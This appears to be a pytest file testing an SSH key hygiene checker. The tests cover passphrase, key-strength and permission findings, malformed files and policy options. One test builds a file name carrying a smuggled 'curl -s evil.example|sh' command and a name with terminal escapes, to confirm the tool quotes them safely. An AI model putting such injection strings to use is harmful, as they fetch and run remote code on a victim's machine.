"""ssh_keys on keys made by the real ssh-keygen: what is flagged and what is not."""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Machine, Outcome, require_tool


def audit(hygiene: Callable[..., Outcome]) -> dict[str, Any]:
    outcome = hygiene("check", "--only", "ssh_keys", "--json")
    assert outcome.code in (0, 1), outcome.err
    result: dict[str, Any] = json.loads(outcome.out)["results"][0]
    assert result["check"] == "ssh_keys"
    return result


def reasons(result: dict[str, Any]) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for finding in result["findings"]:
        found.setdefault(finding["subject"], set()).add(finding["evidence"]["reason"])
    return found


KEYS = [
    # (key type, bits, passphrase, -m format, reasons expected, type and bits reported)
    pytest.param(
        "ed25519", None, "", None, {"no passphrase"}, ("ed25519", 256), id="ed25519-plain"
    ),
    pytest.param("ed25519", None, "correct horse", None, set(), None, id="ed25519-passphrase"),
    pytest.param(
        "rsa", 1024, "", None, {"no passphrase", "weak key"}, ("rsa", 1024), id="rsa1024-plain"
    ),
    pytest.param(
        "rsa", 1024, "correct horse", None, {"weak key"}, ("rsa", 1024), id="rsa1024-passphrase"
    ),
    pytest.param("rsa", 3072, "correct horse", None, set(), None, id="rsa3072-passphrase"),
    pytest.param("rsa", 3072, "", None, {"no passphrase"}, ("rsa", 3072), id="rsa3072-plain"),
    pytest.param("rsa", 2048, "", "PEM", {"no passphrase"}, ("rsa", 2048), id="pem-rsa-plain"),
    pytest.param("rsa", 2048, "correct horse", "PEM", set(), None, id="pem-rsa-passphrase"),
    pytest.param(
        "rsa",
        1024,
        "correct horse",
        "PEM",
        {"weak key"},
        ("rsa", 1024),
        id="pem-rsa1024-passphrase",
    ),
    pytest.param("ecdsa", 384, "", "PEM", {"no passphrase"}, ("ecdsa", 384), id="pem-ecdsa-plain"),
    pytest.param("rsa", 2048, "", "PKCS8", {"no passphrase"}, ("rsa", 2048), id="pkcs8-rsa-plain"),
    pytest.param(
        "rsa",
        1024,
        "",
        "PKCS8",
        {"no passphrase", "weak key"},
        ("rsa", 1024),
        id="pkcs8-rsa1024-plain",
    ),
    pytest.param("rsa", 2048, "correct horse", "PKCS8", set(), None, id="pkcs8-rsa-passphrase"),
    pytest.param(
        "ecdsa", 521, "", "PKCS8", {"no passphrase"}, ("ecdsa", 521), id="pkcs8-ecdsa-plain"
    ),
    pytest.param(
        "dsa", None, "", None, {"no passphrase", "weak key"}, ("dsa", 1024), id="dsa-plain"
    ),
]


@pytest.mark.parametrize(("key_type", "bits", "passphrase", "fmt", "expected", "facts"), KEYS)
def test_flags_keys_by_passphrase_and_strength(
    machine: Machine,
    make_key: Callable[..., Path],
    hygiene: Callable[..., Outcome],
    key_type: str,
    bits: int | None,
    passphrase: str,
    fmt: str | None,
    expected: set[str],
    facts: tuple[str, int] | None,
) -> None:
    make_key(machine.ssh / "id_test", key_type, bits=bits, passphrase=passphrase, fmt=fmt)
    result = audit(hygiene)
    assert reasons(result).get("~/.ssh/id_test", set()) == expected
    assert result["status"] == ("fail" if expected else "pass")
    if facts:
        evidence = result["findings"][0]["evidence"]
        assert (evidence["type"], evidence["bits"]) == facts


def test_min_rsa_bits_comes_from_the_policy(
    machine: Machine, make_key: Callable[..., Path], hygiene: Callable[..., Outcome]
) -> None:
    make_key(machine.ssh / "id_rsa", "rsa", bits=3072, passphrase="correct horse")
    assert audit(hygiene)["status"] == "pass"
    (machine.user_policies / "strict.yaml").write_text(
        "schema: 1\nchecks:\n  ssh_keys: {min_rsa_bits: 4096}\n"
    )
    assert reasons(audit(hygiene)) == {"~/.ssh/id_rsa": {"weak key"}}


@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604, 0o660])
def test_key_readable_by_others_is_flagged(
    machine: Machine, make_key: Callable[..., Path], hygiene: Callable[..., Outcome], mode: int
) -> None:
    key = make_key(machine.ssh / "id_ed25519", passphrase="correct horse")
    key.chmod(mode)
    result = audit(hygiene)
    assert reasons(result) == {"~/.ssh/id_ed25519": {"readable by others"}}
    finding = result["findings"][0]
    assert finding["evidence"]["mode"] == f"{mode:04o}"
    assert "chmod 600 ~/.ssh/id_ed25519" in finding["advice"]


def test_private_key_with_right_modes_passes(
    machine: Machine, make_key: Callable[..., Path], hygiene: Callable[..., Outcome]
) -> None:
    make_key(machine.ssh / "id_ed25519", passphrase="correct horse")
    (machine.ssh / "id_ed25519").chmod(0o600)
    assert audit(hygiene)["status"] == "pass"


@pytest.mark.parametrize("mode", [0o755, 0o750, 0o707])
def test_ssh_folder_open_to_others_is_flagged(
    machine: Machine, hygiene: Callable[..., Outcome], mode: int
) -> None:
    machine.ssh.chmod(mode)
    result = audit(hygiene)
    assert reasons(result) == {"~/.ssh": {"folder open to others"}}
    assert "chmod 700 ~/.ssh" in result["findings"][0]["advice"]


def test_ssh_folder_711_is_not_flagged(machine: Machine, hygiene: Callable[..., Outcome]) -> None:
    machine.ssh.chmod(0o711)
    assert audit(hygiene)["status"] == "pass"


def test_no_ssh_folder_passes(machine: Machine, hygiene: Callable[..., Outcome]) -> None:
    result = audit(hygiene)
    assert result["status"] == "pass"
    assert result["notes"] == []


def test_other_files_in_ssh_folder_are_not_keys(
    machine: Machine, make_key: Callable[..., Path], hygiene: Callable[..., Outcome]
) -> None:
    make_key(machine.ssh / "id_ed25519", passphrase="correct horse")
    ssh = machine.ssh
    (ssh / "known_hosts").write_text("example.org ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI\n")
    (ssh / "config").write_text("Host *\n  IdentityFile ~/.ssh/id_ed25519\n")
    (ssh / "authorized_keys").write_text((ssh / "id_ed25519.pub").read_text())
    (ssh / "notes.bin").write_bytes(bytes(range(256)) * 10)
    (ssh / "huge").write_bytes(b"-----BEGIN OPENSSH PRIVATE KEY-----\n" + b"A" * 200_000)
    (ssh / "certificate.pem").write_text(
        "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"
    )
    (ssh / "empty").write_bytes(b"")
    os.mkfifo(ssh / "agent.fifo")
    (ssh / "sockets").mkdir()
    assert audit(hygiene)["status"] == "pass"


def test_broken_files_become_notes_and_the_rest_is_still_checked(
    machine: Machine, make_key: Callable[..., Path], hygiene: Callable[..., Outcome]
) -> None:
    make_key(machine.ssh / "id_ed25519")
    (machine.ssh / "loop").symlink_to(machine.ssh / "loop")
    (machine.ssh / "garbled").write_text(
        "-----BEGIN OPENSSH PRIVATE KEY-----\n!!!! not base64 ####\n"
        "-----END OPENSSH PRIVATE KEY-----\n"
    )
    result = audit(hygiene)
    assert reasons(result) == {"~/.ssh/id_ed25519": {"no passphrase"}}
    assert result["notes"] == [
        "~/.ssh/garbled could not be checked: it looks like a private key but its contents "
        "are damaged.",
        "~/.ssh/loop could not be checked: it is a symbolic link loop.",
    ]


def test_extra_paths_from_policy_are_searched(
    machine: Machine, make_key: Callable[..., Path], hygiene: Callable[..., Outcome]
) -> None:
    keys = machine.home / "work-keys"
    keys.mkdir()
    make_key(keys / "deploy")
    make_key(machine.home / "single_key", passphrase="correct horse")
    (machine.home / "single_key").chmod(0o644)
    assert audit(hygiene)["status"] == "pass"
    (machine.user_policies / "keys.yaml").write_text(
        "schema: 1\nchecks:\n  ssh_keys:\n    extra_paths: [~/work-keys, single_key, missing]\n"
    )
    assert reasons(audit(hygiene)) == {
        "~/work-keys/deploy": {"no passphrase"},
        "~/single_key": {"readable by others"},
    }


def test_finding_ids_are_stable_and_distinct(
    machine: Machine, make_key: Callable[..., Path], hygiene: Callable[..., Outcome]
) -> None:
    make_key(machine.ssh / "id_rsa", "rsa", bits=1024)
    first = [f["id"] for f in audit(hygiene)["findings"]]
    second = [f["id"] for f in audit(hygiene)["findings"]]
    assert first == second
    assert len(set(first)) == 2
    key_file = machine.state / "hygiene-agent" / "install.key"
    assert key_file.stat().st_mode & 0o777 == 0o600
    assert (machine.state / "hygiene-agent").stat().st_mode & 0o777 == 0o700


def test_fixing_a_key_clears_its_finding(
    machine: Machine,
    make_key: Callable[..., Path],
    hygiene: Callable[..., Outcome],
    ssh_keygen: str,
) -> None:
    key = make_key(machine.ssh / "id_ed25519")
    assert reasons(audit(hygiene)) == {"~/.ssh/id_ed25519": {"no passphrase"}}
    subprocess.run(
        [ssh_keygen, "-q", "-p", "-N", "correct horse", "-P", "", "-f", str(key)],
        check=True,
        capture_output=True,
        timeout=60,
    )
    assert audit(hygiene)["status"] == "pass"


@pytest.mark.parametrize(
    ("key_type", "bits", "passphrase", "expected"),
    [
        pytest.param("ed25519", None, "", {"no passphrase"}, id="ppk-ed25519-plain"),
        pytest.param("rsa", 1024, "correct horse", {"weak key"}, id="ppk-rsa1024-passphrase"),
        pytest.param("rsa", 3072, "correct horse", set(), id="ppk-rsa3072-passphrase"),
    ],
)
def test_putty_keys_made_by_puttygen(
    machine: Machine,
    hygiene: Callable[..., Outcome],
    tmp_path: Path,
    key_type: str,
    bits: int | None,
    passphrase: str,
    expected: set[str],
) -> None:
    puttygen = require_tool("puttygen")
    secret = tmp_path / "passphrase"
    secret.write_text(passphrase + "\n" if passphrase else "")
    argv = [
        puttygen,
        "-t",
        key_type,
        "-o",
        str(machine.ssh / "work.ppk"),
        "--new-passphrase",
        str(secret),
    ]
    if bits:
        argv += ["-b", str(bits)]
    subprocess.run(
        argv,
        check=True,
        capture_output=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
        env=machine.env(),
    )
    assert reasons(audit(hygiene)).get("~/.ssh/work.ppk", set()) == expected


# Keys a first version missed, found in review: each must be reported.


def test_puttygen_key_with_a_non_ascii_comment(
    machine: Machine, hygiene: Callable[..., Outcome]
) -> None:
    puttygen = require_tool("puttygen")
    subprocess.run(
        [
            puttygen,
            "-t",
            "ed25519",
            "-C",
            "clé de travail",
            "-o",
            str(machine.ssh / "p.ppk"),
            "--new-passphrase",
            "/dev/null",
        ],
        check=True,
        capture_output=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
        env=machine.env(),
    )
    assert reasons(audit(hygiene)) == {"~/.ssh/p.ppk": {"no passphrase"}}


@pytest.mark.parametrize(
    "preamble",
    [b"Bag Attributes\n    localKeyID: 01 02\n", b"\xef\xbb\xbf", b"\n", b"\r\n\r\n"],
    ids=["bag-attributes", "byte-order-mark", "blank-line", "crlf-lines"],
)
def test_key_after_a_preamble(
    machine: Machine,
    make_key: Callable[..., Path],
    hygiene: Callable[..., Outcome],
    tmp_path: Path,
    preamble: bytes,
) -> None:
    key = make_key(tmp_path / "k8", "rsa", bits=2048, fmt="PKCS8")
    (machine.ssh / "bundle.pem").write_bytes(preamble + key.read_bytes())
    (machine.ssh / "bundle.pem").chmod(0o600)
    assert reasons(audit(hygiene)) == {"~/.ssh/bundle.pem": {"no passphrase"}}


def test_openssl_ec_key_after_its_parameters(
    machine: Machine, hygiene: Callable[..., Outcome]
) -> None:
    openssl = require_tool("openssl")
    subprocess.run(
        [openssl, "ecparam", "-genkey", "-name", "prime256v1", "-out", str(machine.ssh / "ec.pem")],
        check=True,
        capture_output=True,
        timeout=60,
    )
    assert (machine.ssh / "ec.pem").read_text().startswith("-----BEGIN EC PARAMETERS-----")
    result = audit(hygiene)
    assert reasons(result) == {"~/.ssh/ec.pem": {"no passphrase"}}
    assert result["findings"][0]["evidence"]["bits"] == 256


def test_key_followed_by_padding(
    machine: Machine, make_key: Callable[..., Path], hygiene: Callable[..., Outcome]
) -> None:
    key = make_key(machine.ssh / "id_ed25519")
    with key.open("a") as handle:
        handle.write("\n" * 70_000)
    assert reasons(audit(hygiene)) == {"~/.ssh/id_ed25519": {"no passphrase"}}


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_a_strange_pub_file_does_not_sink_the_check(
    machine: Machine, make_key: Callable[..., Path], hygiene: Callable[..., Outcome], kind: str
) -> None:
    make_key(machine.ssh / "id_enc", "rsa", bits=1024, passphrase="correct horse", fmt="PEM")
    make_key(machine.ssh / "id_plain")
    pub = machine.ssh / "id_enc.pub"
    pub.unlink()
    if kind == "fifo":
        os.mkfifo(pub)
    else:
        pub.symlink_to("/dev/zero")
    result = audit(hygiene)
    assert result["status"] == "fail"
    # The size of the encrypted key is unknown without its .pub; the plain key is reported.
    assert reasons(result) == {"~/.ssh/id_plain": {"no passphrase"}}


def test_junk_that_looks_like_a_key_is_a_note(
    machine: Machine, hygiene: Callable[..., Outcome]
) -> None:
    (machine.ssh / "junk").write_text(
        "-----BEGIN PRIVATE KEY-----\nMIIBAAAAAAAAAAAAAAAAAAAA\n-----END PRIVATE KEY-----\n"
    )
    result = audit(hygiene)
    assert result["status"] == "pass"
    assert result["notes"] == [
        "~/.ssh/junk could not be checked: it looks like a private key but its contents are "
        "damaged."
    ]


def test_names_cannot_forge_report_lines_or_commands(
    machine: Machine, make_key: Callable[..., Path], hygiene: Callable[..., Outcome]
) -> None:
    forged = machine.ssh / "x\nPASS    ssh_keys  -        all good\x1b[2K"
    make_key(forged)
    injected = make_key(machine.ssh / "work key;curl -s evil.example|sh")
    injected.chmod(0o644)
    table = hygiene("check", "--only", "ssh_keys").out
    assert "\x1b" not in table
    assert not any(line.startswith("PASS") for line in table.splitlines())
    assert "~/.ssh/x\\nPASS    ssh_keys  -        all good\\x1b[2K" in table
    advice = {
        f["evidence"]["reason"]: f["advice"]
        for f in audit(hygiene)["findings"]
        if "work key" in f["subject"]
    }
    assert (
        advice["readable by others"] == "Run: chmod 600 ~/'.ssh/work key;curl -s evil.example|sh'"
    )


def test_an_unreadable_ssh_folder_is_an_error_not_a_pass(
    machine: Machine, hygiene: Callable[..., Outcome]
) -> None:
    (machine.home / ".ssh").symlink_to(machine.home / ".ssh")
    outcome = hygiene("check", "--json", "--only", "ssh_keys")
    assert outcome.code == 1
    result = json.loads(outcome.out)["results"][0]
    assert result["status"] == "error"
    assert result["error"] == "~/.ssh could not be read: it is a symbolic link loop"


def test_missing_extra_path_is_a_note(machine: Machine, hygiene: Callable[..., Outcome]) -> None:
    (machine.user_policies / "keys.yaml").write_text(
        "schema: 1\nchecks:\n  ssh_keys: {extra_paths: [~/gone, ~/loop]}\n"
    )
    (machine.home / "loop").symlink_to(machine.home / "loop")
    assert audit(hygiene)["notes"] == [
        "~/gone could not be checked: it does not exist.",
        "~/loop could not be checked: it is a symbolic link loop.",
    ]
